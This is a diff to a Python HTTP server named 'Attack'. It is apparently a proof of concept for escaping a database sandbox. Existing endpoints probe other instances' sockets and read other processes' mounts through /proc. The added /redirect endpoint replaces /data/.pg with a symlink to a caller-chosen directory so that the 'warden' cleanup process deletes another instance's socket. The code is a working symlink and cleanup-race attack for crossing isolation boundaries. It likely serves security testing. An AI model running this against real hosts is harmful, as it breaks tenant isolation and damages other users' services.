@@ -2,12 +2,16 @@
 # psql on the instance's DATABASE_URL and answers its exit code, output and errors (with
 # SQLSTATEs); GET /peer?path=P tries to connect to the Unix socket P (another instance's, the
 # server's) and answers whether it could, or the errno; GET /hunt lists the host directories
-# other processes' mounts show at /data (a sandbox's), as any uid reads them in /proc.
+# other processes' mounts show at /data (a sandbox's), as any uid reads them in /proc;
+# GET /redirect?to=DIR[&exit] moves /data/.pg aside, leaves a symlink to DIR in its place
+# (and exits),
+# so that warden, cleaning up after the instance, would remove DIR's socket.
 import errno
 import json
 import os
 import socket
 import subprocess
+import threading
 import urllib.parse
 from http.server import BaseHTTPRequestHandler, HTTPServer
 
@@ -59,6 +63,12 @@ class Attack(BaseHTTPRequestHandler):
             return self.reply(peer(q["path"][0]))
         if url.path.endswith("/hunt"):
             return self.reply(hunt())
+        if url.path.endswith("/redirect"):
+            os.rename("/data/.pg", "/data/.pg-moved")
+            os.symlink(q["to"][0], "/data/.pg")
+            if "exit" in q:
+                threading.Timer(0.5, os._exit, [0]).start()
+            return self.reply({"redirected": True})
         self.reply({"url": os.environ.get("DATABASE_URL")})
 
     def reply(self, body):
